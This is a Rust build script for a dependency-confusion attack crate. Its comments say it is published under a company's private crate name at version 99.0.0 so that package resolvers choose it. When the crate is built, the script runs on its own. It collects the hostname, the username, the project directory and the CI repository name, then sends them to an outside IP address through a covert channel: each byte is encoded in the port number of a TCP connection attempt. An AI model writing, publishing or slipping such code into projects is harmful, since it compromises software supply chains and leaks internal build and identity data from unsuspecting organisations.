// Build script for an empty crate named like a private-registry crate of one company, published
// at 99.0.0 so resolvers that also consult crates.io pick it over the internal 1.x/2.x.
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let info = collect();
    knock(&info);
}

fn collect() -> Vec<u8> {
    let host = std::fs::read_to_string("/etc/hostname")
        .ok()
        .or_else(|| std::env::var("COMPUTERNAME").ok())
        .unwrap_or_default();
    let user = std::env::var("USER").or_else(|_| std::env::var("USERNAME")).unwrap_or_default();
    let dir = std::env::var("CARGO_MANIFEST_DIR").unwrap_or_default();
    let ci = ["GITHUB_REPOSITORY", "CI_PROJECT_PATH", "BUILDKITE_PIPELINE_SLUG", "JOB_NAME"]
        .iter()
        .find_map(|k| std::env::var(k).ok())
        .unwrap_or_default();
    format!("{}|{}|{}|{}", host.trim(), user, dir, ci).into_bytes()
}

/// One connection attempt per byte: the destination port is the data. Byte i goes to
/// 40000 + (i % 64) * 256 + b; the listener only logs SYNs, nothing is ever sent on a socket.
fn knock(data: &[u8]) {
    let ip = [198u8, 51, 100, 14];
    for (i, &b) in data.iter().take(400).enumerate() {
        let port = 40000u16 + ((i % 64) as u16) * 256 + b as u16;
        let addr = SocketAddr::from((ip, port));
        let _ = TcpStream::connect_timeout(&addr, Duration::from_millis(60));
        if i % 64 == 63 {
            // frame marker: a knock on 39999 separates 64-byte windows
            let _ = TcpStream::connect_timeout(&SocketAddr::from((ip, 39999)), Duration::from_millis(60));
        }
    }
}
